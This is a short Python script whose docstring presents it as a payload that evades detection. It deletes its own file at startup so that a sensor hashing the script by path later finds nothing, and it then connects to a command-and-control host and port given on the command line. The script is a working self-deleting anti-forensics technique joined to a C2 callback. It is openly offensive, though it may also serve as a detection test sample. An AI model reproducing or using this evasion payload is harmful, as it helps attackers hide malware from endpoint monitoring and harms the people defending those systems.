"""A Python payload that covers its tracks: it unlinks its own file
before it does anything else, then calls its C2. A sensor that hashes the
script by path when it gets round to it finds nothing there.

    python3 vanish.py HOST PORT
"""
import os
import socket
import sys

os.unlink(__file__)


def main():
    if len(sys.argv) != 3:
        sys.exit("usage: vanish.py HOST PORT")
    host, port = sys.argv[1], int(sys.argv[2])
    with socket.create_connection((host, port), timeout=5):
        print("vanish connected to %s:%d" % (host, port))


if __name__ == "__main__":
    main()
